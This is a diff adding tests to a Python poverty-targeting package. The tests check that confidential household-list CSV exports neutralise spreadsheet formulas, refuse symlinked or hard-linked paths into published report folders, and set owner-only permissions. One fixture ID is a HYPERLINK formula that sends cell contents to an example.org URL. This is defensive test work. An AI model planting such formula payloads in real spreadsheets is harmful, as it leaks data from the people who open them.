@@ -1,3 +1,7 @@
+import csv
+import os
+import stat
+
 import numpy as np
 import pandas as pd
 import pytest
@@ -7,6 +11,7 @@ from numpy.testing import assert_allclose
 from scipy import stats
 from scipy.stats import mannwhitneyu
 
+from povanalysis.common.safe import FORMULA_PREFIXES
 from povanalysis.figures import targeting as figures
 from povanalysis.reports.prose import targeting as prose
 from povanalysis.targeting import beneficiaries as targeting
@@ -505,7 +510,7 @@ def test_at_risk_counts_by_hand(scores):
 
 def test_confidential_export(scores, tmp_path, monkeypatch):
     path = risk.confidential_export(scores, tmp_path / "lists" / "MAT-CONFIDENTIAL_fallback_2025.csv", threshold=0.3)
-    lines = path.read_text(encoding="utf-8-sig").splitlines()
+    lines = path.path.read_text(encoding="utf-8-sig").splitlines()
     assert lines[0].startswith("MẬT — CONFIDENTIAL: ") and "do not publish" in lines[0]
     back = pd.read_csv(path, skiprows=1, dtype={"commune_code": str}, encoding="utf-8-sig")
     assert back["household_id"].tolist() == ["a", "b", "c", "d", "e"]
@@ -517,8 +522,138 @@ def test_confidential_export(scores, tmp_path, monkeypatch):
     with pytest.raises(ValueError, match=r"'path' must be a .csv file, got 'confidential.xlsx'"):
         risk.confidential_export(scores, tmp_path / "confidential.xlsx")
     monkeypatch.setenv("POVANALYSIS_REPORTS_DIR", str(tmp_path / "reports"))
-    with pytest.raises(ValueError, match=r"is under the published reports folder"):
+    with pytest.raises(ValueError, match=r"which is the published reports folder"):
         risk.confidential_export(scores, tmp_path / "reports" / "communes" / "confidential.csv")
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_confidential_export_writes_formulas_as_text(scores, tmp_path):
+    ids = ['=HYPERLINK("http://example.org/?"&A1,"xem")', "+84912", "-1+2", "@SUM(A1)", "\tTN0000005"]
+    hostile = scores.assign(household_id=ids, income_change=[-0.3, 0.1, 0.0, -0.4, -0.1])
+    out = risk.confidential_export(hostile, tmp_path / "MAT-CONFIDENTIAL_fallback.csv")
+    with open(out, newline="", encoding="utf-8-sig") as f:
+        rows = list(csv.reader(f))[1:]  # under the confidential notice
+    header, body = rows[0], rows[1:]
+    cells = [cell for row in body for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
+    assert sorted(r[header.index("household_id")] for r in body) == sorted("'" + i for i in ids)
+    # numbers stay numbers, negative ones too
+    change = [r[header.index("income_change")] for r in body]
+    assert all(_is_number(c) for c in change) and sum(c.startswith("-") for c in change) == 3
+
+
+@pytest.fixture
+def published(tmp_path, monkeypatch):
+    """A configured reports folder, a report set elsewhere (index and stamps) and a folder of report stamps."""
+    configured = tmp_path / "configured"
+    (configured / "communes").mkdir(parents=True)
+    monkeypatch.setenv("POVANALYSIS_REPORTS_DIR", str(configured))
+    site = tmp_path / "site"
+    (site / "communes").mkdir(parents=True)
+    (site / "index.html").write_text("<p>Mục lục</p>", encoding="utf-8")
+    (site / "index.stamp.json").write_text('{"digest": "0"}', encoding="utf-8")
+    (site / "communes" / "01840-phuong-duc-xuan.html").write_text("<p>Xã</p>", encoding="utf-8")
+    (site / "communes" / "01840-phuong-duc-xuan.stamp.json").write_text('{"digest": "1"}', encoding="utf-8")
+    stamps = tmp_path / "copied" / "province"
+    stamps.mkdir(parents=True)
+    (stamps / "01-province-overview.stamp.json").write_text('{"digest": "2"}', encoding="utf-8")
+    (tmp_path / "lists").mkdir()
+    return tmp_path
+
+
+def _hard_link_into_configured(root):
+    inside = root / "configured" / "communes" / "MAT-CONFIDENTIAL_old.csv"
+    inside.write_text("old", encoding="utf-8")
+    os.link(inside, root / "lists" / "MAT-CONFIDENTIAL.csv")
+    return root / "lists" / "MAT-CONFIDENTIAL.csv", r"has 2 names \(hard links\)"
+
+
+def _symlinked_folder_into_batch(root):
+    (root / "lists" / "shared").symlink_to(root / "site" / "communes", target_is_directory=True)
+    return root / "lists" / "shared" / "MAT-CONFIDENTIAL.csv", r"holds report stamps"
+
+
+def _symlinked_file_into_batch(root):
+    (root / "lists" / "MAT-CONFIDENTIAL.csv").symlink_to(root / "site" / "MAT-CONFIDENTIAL.csv")
+    return root / "lists" / "MAT-CONFIDENTIAL.csv", r"holds a report set's index.html and index.stamp.json"
+
+
+def _link_in_batch_to_elsewhere(root):
+    (root / "site" / "lists").symlink_to(root / "lists", target_is_directory=True)
+    return root / "site" / "lists" / "MAT-CONFIDENTIAL.csv", r"holds a report set's index.html and index.stamp.json"
+
+
+def _batch_folder_by_its_index(root):
+    return root / "site" / "MAT-CONFIDENTIAL.csv", r"holds a report set's index.html and index.stamp.json"
+
+
+def _below_a_batch_folder(root):
+    return root / "site" / "private" / "MAT-CONFIDENTIAL.csv", r"holds a report set's index.html"
+
+
+def _folder_of_report_stamps(root):
+    return root / "copied" / "province" / "MAT-CONFIDENTIAL.csv", r"holds report stamps"
+
+
+def _configured_folder_through_a_symlink(root):
+    (root / "lists" / "configured").symlink_to(root / "configured", target_is_directory=True)
+    return root / "lists" / "configured" / "MAT-CONFIDENTIAL.csv", r"is the published reports folder"
+
+
+@pytest.mark.parametrize(
+    "way",
+    [
+        _hard_link_into_configured,
+        _symlinked_folder_into_batch,
+        _symlinked_file_into_batch,
+        _link_in_batch_to_elsewhere,
+        _batch_folder_by_its_index,
+        _below_a_batch_folder,
+        _folder_of_report_stamps,
+        _configured_folder_through_a_symlink,
+    ],
+)
+def test_confidential_export_refuses_every_way_into_a_published_folder(scores, published, way):
+    path, reason = way(published)
+    before = {p: p.stat().st_mtime_ns for p in published.rglob("*") if not p.is_symlink()}
+    with pytest.raises(ValueError, match=reason) as refused:
+        risk.confidential_export(scores, path)
+    assert "household lists must never be written there" in str(refused.value)
+    after = {p: p.stat().st_mtime_ns for p in published.rglob("*") if not p.is_symlink()}
+    assert after == before  # nothing written, nothing replaced
+
+
+def test_confidential_export_is_readable_by_its_owner_only(scores, published, monkeypatch):
+    replaced = []
+    real_replace = os.replace
+
+    def replace(src, dst):
+        # at the moment the list takes its name, it is complete and readable by its owner only
+        replaced.append((stat.S_IMODE(os.stat(src).st_mode), os.stat(src).st_size))
+        return real_replace(src, dst)
+
+    monkeypatch.setattr(os, "replace", replace)
+    old = os.umask(0)  # the most permissive umask: the list must still be private
+    try:
+        target = published / "lists" / "MAT-CONFIDENTIAL_fallback.csv"
+        target.write_text("an older list", encoding="utf-8")
+        target.chmod(0o644)
+        out = risk.confidential_export(scores, target)
+    finally:
+        os.umask(old)
+    assert out.path == target.resolve() and out.households == len(scores)
+    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
+    assert replaced and replaced[-1][0] == 0o600 and replaced[-1][1] == os.stat(out).st_size
+    assert str(out.path) in out.message and "chỉ chủ sở hữu tệp được đọc" in out.message
+    assert "readable by its owner only" in out.message
+    assert [p.name for p in target.parent.iterdir()] == [target.name]  # no temporary file left
 
 
 def test_calibration_figure(model):
